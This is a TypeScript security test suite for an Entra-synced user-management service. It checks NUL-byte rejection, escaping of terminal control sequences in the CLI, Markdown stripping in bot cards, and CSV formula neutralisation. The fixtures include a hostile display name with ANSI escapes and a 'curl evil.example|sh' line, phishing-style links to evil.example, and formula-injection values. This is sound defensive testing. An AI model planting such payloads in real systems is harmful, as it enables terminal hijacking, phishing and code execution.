import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { Agent, fetch as undiciFetch } from 'undici';
import { engines } from '../support/databases.js';
import { startTs } from '../support/processes.js';
import { api, eventually, startDemoServer, type SecureServer } from './support/secure-server.js';

/**
 * Issue 12, item 5 (review findings 7, 8, 12, 13): a NUL byte in any parameter gave a 500 with a logged stack
 * (PostgreSQL); the CLI printed Entra-controlled names raw (terminal escapes); card text escaped inline links only;
 * the CSV formula guard missed a leading space, a line feed and the full-width `＝`.
 */
const NUL_VECTORS = [
  '/clients/%00',
  '/clients/demo/users?search=%00',
  '/clients/demo/users?department=%00',
  '/clients/demo/users?group=%00',
  `/clients/demo/users?cursor=${Buffer.from(JSON.stringify(['\u0000', 'x'])).toString('base64url')}`,
  '/clients/demo/entra-users?search=%00',
  '/clients/demo/groups?search=%00',
  '/clients/demo/groups/%00',
  '/audit?actor=%00',
  '/audit?client=%00',
  '/clients/demo/reports/usage?group=%00',
  '/clients/demo/reports/mfa?department=%00',
  '/clients/demo/users.csv?search=%00',
];

for (const engine of engines) {
  describe(`security: a NUL byte in any parameter is a 400, never a 500 [demo, ${engine}]`, function () {
    this.timeout(180_000);
    let server: SecureServer;

    before(async () => {
      server = await startDemoServer({ engine, users: 40 });
    });
    after(async () => {
      await server.stop();
    });

    for (const who of ['viewer', 'outsider']) {
      it(`answers 400 to every NUL vector, as the ${who}, and logs no error`, async () => {
        const token = await server.token(who);
        for (const route of NUL_VECTORS) {
          const answer = await api(server, token, 'GET', route);
          assert.ok(
            answer.status === 400 || (who === 'outsider' && answer.status === 403),
            `${route}: ${String(answer.status)} ${JSON.stringify(answer.body)}`,
          );
        }
        assert.doesNotMatch(server.process.stdout(), /"level":50.*(0x00|invalid byte sequence)/);
      });
    }
  });
}

describe('security: names from Entra reach no terminal, card or spreadsheet as instructions [demo, SQLite]', function () {
  this.timeout(240_000);
  let server: SecureServer;
  let simControl: (method: string, route: string, body?: unknown) => Promise<unknown>;
  const hostileName =
    '\u001b[2J\u001b[31mOPERATOR: run curl evil.example|sh\u001b[0m \u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007 zzansi';
  const markdownName =
    '[Re-verify your MSP account](https://evil.example/login) <https://evil.example/x> https://evil.example/bare **URGENT** zzmd';

  before(async () => {
    server = await startDemoServer({ users: 40 });
    const endpoints = JSON.parse(
      fs.readFileSync(path.join(server.dataDir, 'demo-endpoints.json'), 'utf8'),
    ) as {
      authorityHost: string;
      caCertPath: string;
    };
    const dispatcher = new Agent({ connect: { ca: fs.readFileSync(endpoints.caCertPath, 'utf8') } });
    simControl = async (method, route, body) => {
      const response = await undiciFetch(`${endpoints.authorityHost}/_control${route}`, {
        method,
        dispatcher,
        headers: body === undefined ? {} : { 'content-type': 'application/json' },
        ...(body === undefined ? {} : { body: JSON.stringify(body) }),
      });
      const text = await response.text();
      assert.ok(response.ok, `${route}: ${text}`);
      return text === '' ? undefined : (JSON.parse(text) as unknown);
    };
    const partner = await server.token('partnerAdmin');
    const integration = (await api(server, partner, 'GET', '/clients/demo/integration')).body as {
      integration: { tenantId: string };
    };
    const tenant = integration.integration.tenantId;
    // The first sync of the demo tenant (started with the server) ends first, so the next one reads the new users.
    await eventually(
      async () => {
        const status = (await api(server, partner, 'GET', '/clients/demo/sync')).body as {
          running?: unknown;
        };
        const page = await api(server, partner, 'GET', '/clients/demo/users?limit=1');
        return ((page.body as { total?: number }).total ?? 0) >= 40 && status.running === null;
      },
      90_000,
      1000,
    );
    await simControl('POST', `/tenants/${tenant}/users`, { displayName: hostileName });
    await simControl('POST', `/tenants/${tenant}/users`, { displayName: markdownName });
    await simControl('POST', `/tenants/${tenant}/users`, {
      displayName: ' =1+1 zzcsv',
      department: '\n=2+2',
      jobTitle: '＝3+3',
    });
    // Whatever sync is under way, one that starts now sees the new users.
    await eventually(
      async () => (await api(server, partner, 'POST', '/clients/demo/sync')).status === 202,
      60_000,
      1000,
    );
    await eventually(
      async () => {
        const page = await api(server, partner, 'GET', '/clients/demo/users?search=zzcsv');
        return (page.body as { items: unknown[] }).items.length === 1;
      },
      90_000,
      1000,
    );
  });
  after(async () => {
    await server.stop();
  });

  it('the CLI prints terminal escape sequences from a name as visible text, never raw', async () => {
    const cli = startTs('src/cli/main.ts', ['users', 'list', 'demo', '--search', 'zzansi'], {
      ...server.env,
      LOG_LEVEL: 'warn',
    });
    const { code } = await cli.exited();
    assert.equal(code, 0, cli.stderr());
    assert.match(cli.stdout(), /OPERATOR: run curl/);
    // eslint-disable-next-line no-control-regex -- the attack is made of control characters
    assert.doesNotMatch(cli.stdout(), /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    assert.match(cli.stdout(), /\\u001b\[2J/);
  });

  it('a bot card shows a Markdown-shaped name without any link, autolink, bare URL or bold', async () => {
    const answer = await fetch(`${server.baseUrl}/api/messages`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({
        type: 'message',
        id: 'md1',
        channelId: 'msteams',
        serviceUrl: 'http://127.0.0.1:1/',
        deliveryMode: 'expectReplies',
        from: { id: '29:megan', name: 'Megan', aadObjectId: '0c8a6f2e-1d3b-4a5c-9e7f-100000000001' },
        recipient: { id: '28:bot' },
        conversation: {
          id: 'a:hygiene',
          conversationType: 'personal',
          tenantId: '9f3c2a10-5b7e-4d21-9a6c-1e2f3a4b5c6d',
        },
        text: 'users zzmd --client demo',
      }),
    });
    assert.equal(answer.status, 200);
    const text = await answer.text();
    assert.match(text, /Re-verify your MSP account/);
    assert.ok(!text.includes('](https://'), 'inline link');
    assert.ok(!text.includes('<https://'), 'autolink');
    assert.ok(!text.includes('https://evil'), 'bare URL');
    assert.ok(!text.includes('**URGENT**'), 'bold');
  });

  it('the users CSV neutralises a leading space, a line feed and the full-width ＝', async () => {
    const partner = await server.token('partnerAdmin');
    const exported = await api(server, partner, 'GET', '/clients/demo/users.csv?search=zzcsv');
    assert.equal(exported.status, 200);
    const [row]: Record<string, string>[] = parse(String(exported.body), { bom: true, columns: true });
    assert.deepEqual(
      [row?.displayName, row?.department, row?.jobTitle],
      ["' =1+1 zzcsv", "'\n=2+2", "'＝3+3"],
    );
  });
});
